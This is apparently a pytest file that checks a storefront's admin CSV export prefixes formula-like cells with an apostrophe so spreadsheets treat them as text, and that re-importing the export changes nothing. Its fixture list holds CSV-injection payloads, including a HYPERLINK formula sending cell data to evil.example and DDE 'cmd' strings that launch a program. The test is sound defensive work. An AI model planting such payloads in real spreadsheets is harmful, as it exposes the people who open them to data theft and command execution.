"""The back office's CSV export (the only one) never hands a spreadsheet a formula: any cell that would
start with = + - @ (what staff typed as a product name or description) is exported
as text, and importing the export back changes nothing."""

from __future__ import annotations

import csv
import io
import re

import httpx2 as httpx
import pytest

from storefront.app import create_app
from storefront.domain.catalogue import spreadsheet
from storefront.domain.models import Product, StaffRole, Variant
from storefront.domain.staff import accounts
from tests.unit import factories as f

PASSWORD = "correct horse battery"
FORMULAS = [
    '=HYPERLINK("https://evil.example?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def client(db, settings):
    """Staff logged in, with products named and described by formulas through the product form."""
    clothing = await f.category("Clothing")
    await accounts.create("owner@bottega.example", PASSWORD, StaffRole.OWNER)
    app = create_app(settings, manage_db=False)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://shop.test") as client:
        token = re.search(r'name="csrf_token" value="([^"]+)"', (await client.get("/admin/login")).text).group(1)
        await client.post(
            "/admin/login", data={"csrf_token": token, "email": "owner@bottega.example", "password": PASSWORD}
        )
        token = re.search(r'name="csrf_token" value="([^"]+)"', (await client.get("/admin")).text).group(1)
        for n, formula in enumerate(FORMULAS):
            saved = await client.post(
                "/admin/products/new",
                data={
                    "csrf_token": token,
                    "name": formula,
                    "slug": f"p{n}",
                    "description": formula,
                    "category_id": str(clothing.id),
                    "tax_class": "standard",
                    "active": "on",
                },
            )
            assert saved.status_code == 303, saved.text[:500]
            product = await Product.get(slug=f"p{n}")
            added = await client.post(
                f"/admin/products/{product.id}/variants", data={"csrf_token": token, "sku": f"P-{n}", "price": "10"}
            )
            assert added.status_code == 303, added.text[:500]
        client.owner = await accounts.authenticate("owner@bottega.example", PASSWORD)
        yield client


async def test_no_exported_cell_starts_a_formula(client):
    response = await client.get("/admin/products/export.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) == 1 + len(FORMULAS)
    assert [
        (r, c) for r, row in enumerate(rows) for c, cell in enumerate(row) if cell.startswith(STARTS_A_FORMULA)
    ] == []
    # What was typed is all there, behind the apostrophe that makes a spreadsheet show it as text.
    names = [row[spreadsheet.COLUMNS.index("product_name")] for row in rows[1:]]
    assert sorted(names) == sorted("'" + formula for formula in FORMULAS)


async def test_importing_the_export_back_changes_nothing(client):
    before = [(p.name, p.description) for p in await Product.all().order_by("id")]
    skus = await Variant.all().order_by("id").values_list("sku", flat=True)
    export = (await client.get("/admin/products/export.csv")).text
    plan = await spreadsheet.plan_import(export)
    assert plan.errors == [] and plan.nothing_to_do, plan.changes
    await spreadsheet.apply_import(client.owner, export)
    assert [(p.name, p.description) for p in await Product.all().order_by("id")] == before
    assert await Variant.all().order_by("id").values_list("sku", flat=True) == skus
